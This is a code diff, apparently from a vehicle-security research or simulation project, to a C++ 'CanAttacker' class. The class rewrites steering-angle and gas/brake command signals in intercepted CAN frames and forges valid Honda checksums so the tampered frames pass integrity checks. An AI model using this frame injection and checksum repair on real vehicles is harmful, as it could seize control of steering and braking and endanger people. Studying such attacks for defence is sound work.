@@ -12,7 +12,9 @@ CanAttacker::CanAttacker(const can::Database& db)
       accel_sig_(&db.signal(
           db.signal_handle("GAS_BRAKE_COMMAND", can::sig::kAccelCmd))),
       brake_request_sig_(&db.signal(
-          db.signal_handle("GAS_BRAKE_COMMAND", can::sig::kBrakeRequest))) {}
+          db.signal_handle("GAS_BRAKE_COMMAND", can::sig::kBrakeRequest))),
+      steer_id_sum_(can::id_nibble_sum(can::msg_id::kSteeringControl)),
+      gas_brake_id_sum_(can::id_nibble_sum(can::msg_id::kGasBrakeCommand)) {}
 
 std::uint64_t CanAttacker::attach(can::CanBus& bus) {
   return bus.attach_interceptor(
@@ -20,13 +22,16 @@ std::uint64_t CanAttacker::attach(can::CanBus& bus) {
 }
 
 bool CanAttacker::intercept(can::CanFrame& frame) {
+  // Each rewrite loads the payload word once, replaces the targeted
+  // signals, repairs the checksum (Fig. 4) and stores the word once.
   if (frame.id == can::msg_id::kSteeringControl) {
-    last_original_steer_ =
-        units::deg_to_rad(steer_angle_sig_->decode(frame.data));
+    std::uint64_t word = can::load_payload(frame.data);
+    last_original_steer_ = units::deg_to_rad(steer_angle_sig_->value(word));
     if (values_.steer_cmd.has_value()) {
-      steer_angle_sig_->encode(frame.data,
-                               units::rad_to_deg(*values_.steer_cmd));
-      can::apply_honda_checksum(frame);  // repair integrity (Fig. 4)
+      word = steer_angle_sig_->replace(word,
+                                       units::rad_to_deg(*values_.steer_cmd));
+      can::store_payload(frame.data, can::with_honda_checksum(
+                                         steer_id_sum_, word, frame.dlc));
       ++corrupted_;
     }
     return true;
@@ -34,10 +39,12 @@ bool CanAttacker::intercept(can::CanFrame& frame) {
 
   if (frame.id == can::msg_id::kGasBrakeCommand &&
       values_.accel_cmd.has_value()) {
-    accel_sig_->encode(frame.data, *values_.accel_cmd);
-    brake_request_sig_->encode(frame.data,
-                               *values_.accel_cmd < 0.0 ? 1.0 : 0.0);
-    can::apply_honda_checksum(frame);
+    std::uint64_t word = can::load_payload(frame.data);
+    word = accel_sig_->replace(word, *values_.accel_cmd);
+    word = brake_request_sig_->replace(word,
+                                       *values_.accel_cmd < 0.0 ? 1.0 : 0.0);
+    can::store_payload(frame.data, can::with_honda_checksum(
+                                       gas_brake_id_sum_, word, frame.dlc));
     ++corrupted_;
     return true;
   }
